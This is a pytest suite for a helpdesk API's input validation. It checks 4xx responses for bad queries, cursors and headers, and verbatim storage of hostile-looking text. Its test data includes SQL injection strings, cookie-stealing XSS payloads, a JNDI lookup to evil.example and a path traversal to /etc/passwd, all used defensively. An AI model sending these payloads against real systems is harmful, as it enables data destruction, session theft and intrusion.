"""Query strings, cursors, headers and addresses: values that are not understood are a 4xx problem
(never a 500, never silently ignored); unknown addresses are a 404 problem and wrong methods a 405
problem; text that looks like SQL or HTML is stored and returned exactly as sent."""

from __future__ import annotations

import base64
import json
from typing import Any

import httpx
import pytest

from tests.api.support import PROBLEM_JSON, new_ticket, row_counts
from tests.conftest import Api, Cast, assert_problem


def _cursor(data: Any) -> str:
    return base64.urlsafe_b64encode(json.dumps(data).encode()).decode().rstrip("=")


def _expect_4xx(api: Api, url: str, params: Any, want: int = 422, **kw: Any) -> list[str]:
    try:
        r = api.get(url, params=params, **kw)
    except httpx.TransportError as exc:
        return [f"{url} {params}: connection lost ({type(exc).__name__})"]
    if r.status_code != want or not r.headers.get("content-type", "").startswith(PROBLEM_JSON):
        return [f"{url} {params}: want {want}, got {r.status_code} {r.text[:200]}"]
    return []


BAD_QUERIES: list[tuple[str, str, dict[str, Any]]] = [
    ("alice", "/api/v1/tickets", {"status": "bogus"}),
    ("alice", "/api/v1/tickets", {"status": "open,bogus"}),
    ("alice", "/api/v1/tickets", {"priority": "highest"}),
    ("alice", "/api/v1/tickets", {"type": "bug"}),
    ("alice", "/api/v1/tickets", {"sort": "subject"}),
    ("alice", "/api/v1/tickets", {"sort": "-created_at; DROP TABLE tickets"}),
    ("alice", "/api/v1/tickets", {"limit": 0}),
    ("alice", "/api/v1/tickets", {"limit": 201}),
    ("alice", "/api/v1/tickets", {"limit": "ten"}),
    ("alice", "/api/v1/tickets", {"team": "taipei"}),
    ("alice", "/api/v1/tickets", {"team": 0}),
    ("alice", "/api/v1/tickets", {"team": 2**63}),
    ("alice", "/api/v1/tickets", {"requester": -1}),
    ("alice", "/api/v1/tickets", {"requester": 10**30}),
    ("alice", "/api/v1/tickets", {"assignee": "alice"}),
    ("alice", "/api/v1/tickets", {"assignee": "-1"}),
    ("alice", "/api/v1/tickets", {"assignee": "0"}),
    ("alice", "/api/v1/tickets", {"assignee": "9" * 20}),
    ("alice", "/api/v1/tickets", {"assignee": "١٢"}),  # Arabic-Indic digits: str.isdigit() says yes
    ("alice", "/api/v1/tickets", {"assignee": "²"}),  # a superscript two: isdigit() yes, int() no
    ("alice", "/api/v1/tickets", {"tag": " , "}),
    ("alice", "/api/v1/tickets", {"tag": "x" * 51}),
    ("alice", "/api/v1/tickets", {"q": "x" * 501}),
    ("alice", "/api/v1/customers", {"email": "not-an-email"}),
    ("alice", "/api/v1/customers", {"phone": "call me"}),
    ("alice", "/api/v1/customers", {"tag": "  "}),
    ("alice", "/api/v1/customers", {"limit": 0}),
    ("alice", "/api/v1/customers", {"q": "x" * 201}),
    ("ada", "/api/v1/agents", {"role": "superuser"}),
    ("ada", "/api/v1/agents", {"active": "maybe"}),
    ("ada", "/api/v1/agents", {"after_id": -1}),
    ("ada", "/api/v1/agents", {"after_id": 2**63}),
    ("ada", "/api/v1/agents", {"after_id": 10**30}),
    ("ada", "/api/v1/agents", {"limit": 501}),
    ("ada", "/api/v1/jobs", {"status": "failed"}),
    ("ada", "/api/v1/jobs", {"before_id": 0}),
    ("ada", "/api/v1/jobs", {"before_id": 2**63}),
    ("ada", "/api/v1/audit/security-events", {"before_id": 2**63}),
    ("ada", "/api/v1/audit/security-events", {"before_id": 10**30}),
    ("ada", "/api/v1/audit/security-events", {"limit": 501}),
    ("ada", "/api/v1/audit/security-events", {"kind": "k" * 41}),
]


def test_query_values_that_are_not_understood_are_a_422(live_cast: Cast) -> None:
    """Out-of-range numbers must be refused before they reach the database (SQLite cannot bind
    integers past 64 bits, PostgreSQL's bigint overflows), and unknown words must not be ignored."""
    failures: list[str] = []
    clients = {who: live_cast.api(who) for who in ("alice", "ada")}
    for who, url, params in BAD_QUERIES:
        failures += _expect_4xx(clients[who], url, params)
    t = new_ticket(clients["alice"])
    for sub in ("comments", "events"):
        for after in (-1, 2**63, 10**30, "x"):
            failures += _expect_4xx(clients["alice"], f"/api/v1/tickets/{t['id']}/{sub}", {"after_id": after})
    assert not failures, "\n".join(failures)


def test_known_values_are_understood(live_cast: Cast) -> None:
    """The control for the test above."""
    alice = live_cast.api("alice")
    t = new_ticket(alice, priority="high", tags=["vip"])
    ok = [
        ("/api/v1/tickets", {"status": "new,open", "priority": ["high", "urgent"], "sort": "updated_at"}),
        ("/api/v1/tickets", {"assignee": "none", "tag": "VIP", "limit": 200}),
        ("/api/v1/tickets", {"assignee": "me"}),
        ("/api/v1/tickets", {"assignee": str(2**63 - 1), "team": 2**63 - 1}),
        ("/api/v1/customers", {"email": "LISA@example.com"}),
        ("/api/v1/agents", {"role": "agent", "active": "true", "after_id": 2**63 - 1}),
        (f"/api/v1/tickets/{t['id']}/events", {"after_id": 2**63 - 1}),
    ]
    for url, params in ok:
        r = alice.get(url, params=params)
        assert r.status_code == 200, (url, params, r.text)
    assert [x["id"] for x in alice.get("/api/v1/tickets", params={"tag": "vip"}).json()["items"]] == [t["id"]]
    lisa = alice.get("/api/v1/customers", params={"email": "LISA@example.com"}).json()["items"]
    assert [c["id"] for c in lisa] == [live_cast.customers["lisa"].id]


def test_invalid_customer_cursors_are_a_422(live_cast: Cast) -> None:
    """Tried: text that is not base64 JSON, a list, a string, ids that are text, a boolean, fractional,
    negative, past 64 bits. An empty object is a valid first page."""
    alice = live_cast.api("alice")
    failures: list[str] = []
    for cursor in (
        "garbage!!",
        "e30",  # {} is fine: no position
        _cursor([1]),
        _cursor("x"),
        _cursor({"id": "x"}),
        _cursor({"id": True}),
        _cursor({"id": 1.5}),
        _cursor({"id": -1}),
        _cursor({"id": 2**63}),
        _cursor({"id": 10**30}),
    ):
        r = alice.get("/api/v1/customers", params={"cursor": cursor})
        if cursor == "e30":
            if r.status_code != 200:
                failures.append(f"{cursor}: {r.status_code}")
            continue
        if r.status_code != 422 or not r.headers["content-type"].startswith(PROBLEM_JSON):
            failures.append(f"{cursor}: want 422, got {r.status_code} {r.text[:200]}")
    assert not failures, "\n".join(failures)


def test_invalid_ticket_cursors_are_a_422(live_cast: Cast) -> None:
    """Tried: not base64 JSON, a list, a text id, a cursor made for another sort, no id, an over-long
    cursor."""
    alice = live_cast.api("alice")
    for params in (
        {"cursor": "garbage!!"},
        {"cursor": _cursor([1])},
        {"cursor": _cursor({"s": "-created_at", "id": "x"})},
        {"cursor": _cursor({"s": "created_at", "id": 1})},  # made for another sort order
        {"cursor": _cursor({"s": "-created_at"})},
        {"cursor": "x" * 501},
    ):
        assert_problem(alice.get("/api/v1/tickets", params=params), 422)


@pytest.mark.parametrize(
    "cursor",
    [
        {"s": "-created_at", "id": 2**63},
        {"s": "-created_at", "id": True},
        {"s": "-updated_at", "id": 1, "v": "not a date"},
        {"s": "-updated_at", "id": 1, "v": 5},
        {"s": "-updated_at", "id": 1},
    ],
    ids=["id past 64 bits", "id a boolean", "v not a date", "v a number", "v missing"],
)
def test_crafted_ticket_cursors_are_a_422(live_cast: Cast, cursor: dict[str, Any]) -> None:
    """A cursor is client-held data: a crafted one must be refused, not reach the query."""
    r = live_cast.api("alice").get("/api/v1/tickets", params={"sort": cursor["s"], "cursor": _cursor(cursor)})
    assert_problem(r, 422)


def test_if_match_must_be_an_etag(live_cast: Cast) -> None:
    """Tried: a non-numeric ETag, a negative number, a superscript digit and an Arabic-Indic digit
    (str.isdigit() says yes, int() may not), a fraction: 422. A stale ETag: 409 with the current
    version. The current ETag: 200."""
    alice = live_cast.api("alice")
    t = new_ticket(alice)
    url = f"/api/v1/tickets/{t['id']}"
    for value in (b'W/"abc"', b"-1", b'"\xb2"', b'W/"\xd9\xa1"', b'"1.0"'):
        r = alice.patch(url, json={"priority": "low"}, headers={"If-Match": value})
        assert r.status_code == 422, (value, r.text[:300])
        assert_problem(r, 422)
    stale = alice.patch(url, json={"priority": "low"}, headers={"If-Match": 'W/"99"'})
    assert assert_problem(stale, 409)["current_version"] == t["version"]
    etag = alice.get(url).headers["etag"]
    assert alice.patch(url, json={"priority": "low"}, headers={"If-Match": etag}).status_code == 200


def test_unknown_addresses_are_a_404_problem(live_cast: Cast) -> None:
    """Tried, with and without a token: an unknown path, another API version, an unknown sub-path, a path
    with dot segments."""
    for api in (live_cast.api("alice"), live_cast.api(None)):
        for url in ("/api/v1/nope", "/api/v2/tickets", "/api/v1/tickets/1/nope", "/api/v1/../../etc/passwd"):
            body = assert_problem(api.get(url), 404)
            assert body["detail"] == "There is nothing at this address."


def test_wrong_methods_are_a_405_problem(live_cast: Cast) -> None:
    """Tried: DELETE and PUT where only GET/POST/PATCH exist, GET on the login, PATCH on an API key, PUT on
    /me. Each names the method and sends Allow."""
    alice = live_cast.api("alice")
    t = new_ticket(alice)
    for method, url in (
        ("DELETE", "/api/v1/tickets"),
        ("PUT", f"/api/v1/tickets/{t['id']}"),
        ("DELETE", f"/api/v1/tickets/{t['id']}"),
        ("GET", "/api/v1/auth/token"),
        ("DELETE", f"/api/v1/customers/{live_cast.customers['lisa'].id}"),
        ("PATCH", "/api/v1/api-keys/1"),
        ("PUT", "/api/v1/me"),
    ):
        r = alice.request(method, url)
        body = assert_problem(r, 405)
        assert body["detail"] == f"This address does not accept {method}."
        assert r.headers.get("allow"), (method, url)


INJECTIONS = [
    "Robert'); DROP TABLE tickets;--",
    "' OR '1'='1' --",
    '"; DELETE FROM agents WHERE "1"="1',
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert('x')>",
    "100% _under_ \\back\\slash",
    "${jndi:ldap://evil.example/a} {{7*7}} %s %n",
    "\u202eevil.exe \u200b zero width",
    "包裹 😀 e\u0301",
]


async def test_sql_and_html_are_stored_and_returned_verbatim(live_cast: Cast) -> None:
    """Tried: SQL fragments, script and img tags, LIKE wildcards and backslashes, template and format
    strings, bidi overrides and zero-width spaces, CJK and combining characters — as ticket subject,
    description and comment, customer name and attribute, team name and description. All come back byte
    for byte; search treats them as words; nothing else changed."""
    alice, ada = live_cast.api("alice"), live_cast.api("ada")
    before = await row_counts(live_cast.rt, live_cast.workspace_id)
    for i, text in enumerate(INJECTIONS):
        r = alice.post(
            "/api/v1/tickets",
            json={
                "subject": text,
                "description": text,
                "requester": {"email": f"i{i}@example.com", "name": text},
            },
        )
        assert r.status_code == 201, r.text
        assert r.headers["content-type"] == "application/json"
        t = r.json()
        assert t["subject"] == text and t["requester"]["name"] == text
        c = alice.post(f"/api/v1/tickets/{t['id']}/comments", json={"body": text, "public": False})
        assert c.status_code == 201 and c.json()["body"] == text
        got = alice.get(f"/api/v1/tickets/{t['id']}/comments").json()
        assert [x["body"] for x in got] == [text, text]
        assert alice.get(f"/api/v1/tickets/{t['id']}").json()["subject"] == text
        customer = alice.post("/api/v1/customers", json={"name": text, "custom_attributes": {"note": text}})
        assert customer.status_code == 201, customer.text
        assert customer.json()["name"] == text and customer.json()["custom_attributes"] == {"note": text}
        team = ada.post("/api/v1/teams", json={"name": f"{i} {text}"[:100], "description": text})
        assert team.status_code == 201 and team.json()["description"] == text, team.text
    after = await row_counts(live_cast.rt, live_cast.workspace_id)
    n = len(INJECTIONS)
    assert after["tickets"] == before["tickets"] + n and after["teams"] == before["teams"] + n
    assert after["agents"] == before["agents"]  # nobody was deleted
    # Search takes the same strings as plain words.
    found = alice.get("/api/v1/tickets", params={"q": "DROP TABLE"}).json()["items"]
    assert [x["subject"] for x in found] == [INJECTIONS[0]]
    for q in [*INJECTIONS, '"', "NEAR(a b)", "a OR b", "*", "-x", "^x", "x:y", "!!", "'", "\\", "&|!():*"]:
        r = alice.get("/api/v1/tickets", params={"q": q})
        assert r.status_code == 200, (q, r.text[:300])
        r = alice.get("/api/v1/customers", params={"q": q})
        assert r.status_code == 200, (q, r.text[:300])
    # LIKE wildcards are literal: "%" and "_" match only names that contain them.
    for q in ("%", "_"):
        names = [c["name"] for c in alice.get("/api/v1/customers", params={"q": q}).json()["items"]]
        assert names and all(q in name for name in names), (q, names)


def test_undecodable_bytes_in_addresses_and_headers_are_harmless(live_cast: Cast) -> None:
    """Tried: UTF-8 encodings of a lone surrogate and bytes that are not UTF-8 in query values and
    paths, and odd Accept-Language headers. The server must not pass such text to the database as
    it came, nor crash on it: a 200 (the text becomes U+FFFD) or a 4xx problem."""
    alice = live_cast.api("alice")
    for url in (
        "/api/v1/tickets?q=%ED%A0%80",
        "/api/v1/tickets?q=%FF%FE",
        "/api/v1/customers?q=%ED%A0%80",
        "/api/v1/tickets?tag=%ED%A0%80",
        "/api/v1/customers?email=%ED%A0%80%40example.com",
        "/api/v1/tickets/%ED%A0%80",
        "/api/v1/customers/%FF",
    ):
        r = alice.get(url)
        assert r.status_code == 200 or 400 <= r.status_code < 500, (url, r.status_code, r.text[:300])
        if r.status_code != 200:
            assert_problem(r, r.status_code)
    for language in ("zh-TW;q=abc", "*", "x" * 1000, "zh-Hant-TW, en;q=0.5", ";;;,,,", "zh;q=nan"):
        r = alice.get("/api/v1/tickets/0", headers={"Accept-Language": language})
        assert_problem(r, 422)
